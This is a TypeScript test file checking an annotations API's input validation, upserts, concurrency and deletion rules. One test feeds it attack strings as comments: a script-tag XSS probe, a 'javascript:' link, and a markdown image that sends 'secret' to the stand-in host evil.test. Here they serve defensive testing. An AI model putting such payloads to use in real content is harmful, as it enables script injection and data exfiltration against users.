/** Section H of the list of bad input: annotations. */
import { expect, it } from 'vitest'
import { expectError } from '../conformance/answer-forms.ts'
import { seedChain } from '../conformance/operations.ts'
import { describeEachEngine } from '../harness/each-engine.ts'

describeEachEngine(
  'H. Annotations',
  (app) => {
    async function seed() {
      const { client } = await app().newWorkspace()
      const component = await client.create('/components', { name: 'a' })
      const datasetId = await client.create(`/components/${component}/datasets`, { name: 'a' })
      const run = await client.create(`/components/${component}/runs`, { datasetId })
      return { client, at: `/components/${component}/runs/${run}/annotations` }
    }

    it.each([
      ['106', 'traceDbId', {}],
      ['106', 'traceDbId', { traceDbId: '' }],
      ['106', 'traceDbId', { traceDbId: 5 }],
      ['106', 'traceDbId', { traceDbId: null }],
      ['106', 'traceDbId', { traceDbId: 'x'.repeat(129) }],
      ['107', 'rating', { traceDbId: 't', rating: null }],
      ['107', 'comment', { traceDbId: 't', comment: null }],
      ['107', 'rating', { traceDbId: 't', rating: 5 }],
      ['107', 'rating', { traceDbId: 't', rating: 'x'.repeat(501) }],
      ['111', 'comment', { traceDbId: 't', comment: 'x'.repeat(20_001) }],
      ['68', 'userId', { traceDbId: 't', userId: 'another' }],
    ])('%s: a wrong %s is 400, is named, and nothing is stored', async (_, field, body) => {
      const { client, at } = await seed()
      expectError(await client.post(at, body), 400, new RegExp(field))
      expect(await client.list(at)).toEqual([])
    })

    it('107: an invalid second save does not change the first', async () => {
      const { client, at } = await seed()
      const { body } = await client.post(at, { traceDbId: 't', rating: 'positive', comment: 'Good' })
      expectError(await client.post(at, { traceDbId: 't', rating: null }), 400, /rating/)
      expect(await client.list(at)).toEqual([body])
    })

    it('108: the same trace and author twice is 201 twice, one row, the second values', async () => {
      const { client, at } = await seed()
      const first = await client.post(at, { traceDbId: 't', rating: 'positive', comment: 'a' })
      const second = await client.post(at, { traceDbId: 't', rating: 'negative', comment: 'b' })
      expect([first.status, second.status]).toEqual([201, 201])
      expect(await client.list(at)).toEqual([{ ...first.body, rating: 'negative', comment: 'b' }])
    })

    it('109: fifty at once on the same trace are fifty times 201 and one row', async () => {
      const { client, at } = await seed()
      const answers = await Promise.all(
        Array.from({ length: 50 }, (_, place) => client.post(at, { traceDbId: 't', comment: `c${place}` })),
      )
      expect(answers.map(({ status }) => status)).toEqual(new Array(50).fill(201))
      expect(new Set(answers.map(({ body }) => body.id)).size).toBe(1)
      const listed = await client.list(at)
      expect(listed).toHaveLength(1)
      expect(listed[0]?.comment).toMatch(/^c\d+$/)
    })

    it.each(['<script>alert(1)</script>', '[x](javascript:alert(1))', '![x](http://evil.test/?q=secret)', '\u202e'])(
      '110: the comment %s is text like any other',
      async (comment) => {
        const { client, at } = await seed()
        expect((await client.post(at, { traceDbId: 't', comment })).body.comment).toBe(comment)
        expect(await client.list(at)).toMatchObject([{ comment }])
      },
    )

    it('111: a comment of 20,000 characters, counted as people count, is 201', async () => {
      const { client, at } = await seed()
      const comment = '😀'.repeat(20_000)
      expect((await client.post(at, { traceDbId: 't', comment })).body.comment).toBe(comment)
    })

    it('112: deleting the annotation of another run is 404 and leaves it', async () => {
      const { client } = await app().newWorkspace()
      const one = await seedChain(client)
      const other = await seedChain(client)
      const path = `/components/${one.component}/runs/${one.run}/annotations`
      expectError(await client.delete(`${path}/${other.annotation}`), 404, 'Annotation not found')
      expect(await client.list(`/components/${other.component}/runs/${other.run}/annotations`)).toHaveLength(1)
    })
  },
  { works: false },
)
